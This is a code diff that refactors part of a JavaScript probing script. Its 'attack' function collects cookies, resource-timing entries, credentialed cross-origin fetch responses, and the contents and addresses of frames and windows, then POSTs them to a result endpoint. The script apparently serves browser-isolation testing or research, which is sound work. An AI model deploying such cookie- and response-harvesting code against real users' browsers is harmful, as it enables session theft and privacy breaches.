@@ -13,7 +13,8 @@ async function attack(body) {
   } catch (error) {
     learnt = { failed: `${error}` };
   }
-  const said = JSON.stringify({ learnt, entries: performance.getEntriesByType("resource").map(entryOf), cookie: cookies() });
+  const entries = performance.getEntriesByType("resource").map(entryOf);
+  const said = JSON.stringify({ learnt, entries, cookie: cookies() });
   await fetch(`/result?from=${encodeURIComponent(location.origin)}`, { method: "POST", body: said });
 }
 
@@ -33,7 +34,7 @@ function entryOf(entry) {
 async function fetched(path, options) {
   try {
     const answer = await fetch(DESK + path, { credentials: "include", ...options });
-    return { type: answer.type, status: answer.status, url: answer.url, text: await answer.text(), headers: [...answer.headers] };
+    return { type: answer.type, status: answer.status, text: await answer.text(), headers: [...answer.headers] };
   } catch (error) {
     return spoken(error);
   }
@@ -78,10 +79,14 @@ async function framed(tag, attributes) {
   const inside = element.contentWindow;
   return {
     event: event.event || event,
-    document: looked(() => (element.contentDocument ? element.contentDocument.documentElement.textContent.trim() : "none")),
+    document: looked(() => textOf(element)),
     address: looked(() => (inside ? String(inside.location.href) : "none")),
     frames: looked(() => (inside ? inside.length : 0)),
   };
+}
+
+function textOf(frame) {
+  return frame.contentDocument ? frame.contentDocument.documentElement.textContent.trim() : "none";
 }
 
 // A window that this page has opened: what of it can be read or done while this page holds it.
